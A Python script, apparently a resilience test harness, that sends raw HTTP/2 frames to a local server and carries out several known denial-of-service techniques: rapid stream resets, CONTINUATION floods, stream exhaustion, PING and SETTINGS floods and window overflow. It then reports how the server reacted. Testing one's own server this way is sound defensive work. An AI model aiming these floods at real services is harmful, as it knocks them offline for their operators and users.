# HTTP/2 against its server, in raw frames: `attack.py PORT WAY COUNT` with a way of the table below.
import socket, struct, sys, time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
# GET, http, `/v1/sandboxes`, authority x: indexed where HPACK's static table has it, else literal without indexing.
HEAD = b"\x82\x86" + b"\x04\x0d/v1/sandboxes" + b"\x01\x01x"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Peer:
    def __init__(self, port):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.buffer, self.seen, self.closed = b"", {}, False
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0))

    def send(self, data):
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def listen(self, seconds):
        """Reads frames, and counts them by kind, until nothing comes for so long."""
        self.socket.settimeout(seconds)
        while not self.closed:
            try:
                data = self.socket.recv(65536)
            except socket.timeout:
                return
            except OSError:
                data = b""
            if not data:
                self.closed = True
                return
            self.take(data)

    def take(self, data):
        self.buffer += data
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind = self.buffer[3]
            self.seen[kind] = self.seen.get(kind, 0) + 1
            self.buffer = self.buffer[9 + length:]


def honest(peer, count):
    peer.send(frame(HEADERS, 5, 1, HEAD))
    return 1


def reset(peer, count):
    for number in range(count):
        stream = 1 + 2 * number
        if not peer.send(frame(HEADERS, 5, stream, HEAD) + frame(RST, 0, stream, struct.pack(">I", 8))):
            return number
        if number % 100 == 0:
            peer.listen(0.001)
    return count


def continuation(peer, count):
    peer.send(frame(HEADERS, 1, 1, HEAD))
    filler = b"\x00\x01a\x7f\xa1\x1f" + b"b" * 4128
    for number in range(count):
        if not peer.send(frame(CONTINUATION, 0, 1, filler)):
            return number
        if number % 50 == 0:
            peer.listen(0.001)
            if peer.closed:
                return number
    return count


def streams(peer, count):
    sent = 0
    for number in range(count):
        # Heads of uploads whose bodies never come: they stay open.
        if not peer.send(frame(HEADERS, 4, 1 + 2 * number, HEAD)):
            break
        sent += 1
        if number % 100 == 0:
            peer.listen(0.001)
            if peer.closed:
                break
    return sent


def ping(peer, count):
    for number in range(count):
        if not peer.send(frame(PING, 0, 0, b"12345678")):
            return number
    return count


def window(peer, count):
    # More than a window may hold: an error of the connection.
    peer.send(frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 3)
    return 3


def settings(peer, count):
    for number in range(count):
        if not peer.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, number % 65536))):
            return number
    return count


peer = Peer(int(sys.argv[1]))
began = time.monotonic()
count = int(sys.argv[3])
print("sent:", globals()[sys.argv[2]](peer, count))
peer.listen(1)
print("closed:", int(peer.closed))
print("went away:", peer.seen.get(GOAWAY, 0))
print("answers:", peer.seen.get(HEADERS, 0))
print("resets:", peer.seen.get(RST, 0))
print(f"seconds: {time.monotonic() - began:.1f}")
